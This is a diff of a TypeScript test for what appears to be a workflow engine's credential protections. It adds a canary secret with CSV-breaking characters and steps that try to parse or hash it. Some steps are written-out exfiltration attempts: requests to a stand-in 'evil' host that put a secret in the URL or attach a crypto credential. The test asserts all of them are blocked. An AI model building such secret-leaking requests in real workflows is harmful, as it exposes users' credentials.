@@ -146,6 +146,7 @@ it('send a credential nowhere but to its service, wherever a workflow points the
     A_GITHUB: ['github', { token: 'canary-token-b' }],
     A_KEY: ['openai', { api_key: 'canary-token-c' }],
     A_SIGNING: ['webhook_secret', { secret: 'canarytokenfcanarytokenfcanaryto' }],
+    A_TEXT: ['generic', { value: 'canary,"of,parts' }],
     A_CRYPTO: ['crypto_key', { key: 'canary-token-g' }],
     A_STORE: ['aws', { access_key_id: 'AK1', secret_access_key: 'canary-token-d', session_token: 'canary-token-e' }],
   });
@@ -164,14 +165,15 @@ it('send a credential nowhere but to its service, wherever a workflow points the
   const codes = (of: typeof rows) => of.map((row) => [row.step_id, (row['error'] as { code: string } | null)?.code]);
   expect(codes(rows)).toEqual(Object.keys(attacks).map((id) => [id, 'credential_host_denied']));
 
-  // What is only computed with cannot be written into a request at all, and neither into what is hashed and shown.
+  // What is only computed with cannot be written into a request, and no secret is given to what only computes.
   const url = evil.url;
   const written = await run([
     { id: 'a', type: 'http_request', config: { url: `${url}?\${secrets.A_SIGNING}` }, on_error: 'continue', ...once },
     { id: 'b', type: 'http_request', config: { url, credential: 'A_CRYPTO' }, on_error: 'continue', ...once },
-    { id: 'c', type: 'crypto.hash', config: { data: '${secrets.A_CRYPTO}' }, on_error: 'continue', ...once },
+    { id: 'c', type: 'csv.parse', config: { text: '${secrets.A_TEXT}' }, on_error: 'continue', ...once },
+    { id: 'd', type: 'crypto.hash', config: { data: 'x${secrets.A_TEXT}' }, on_error: 'continue', ...once },
   ]);
-  expect(codes(written.rows)).toEqual(['a', 'b', 'c'].map((id) => [id, 'credential_unusable']));
+  expect(codes(written.rows)).toEqual(['a', 'b', 'c', 'd'].map((id) => [id, 'credential_unusable']));
   expect(evil.calls).toEqual([]);
   expect(text + written.text).not.toContain('canary');
 });
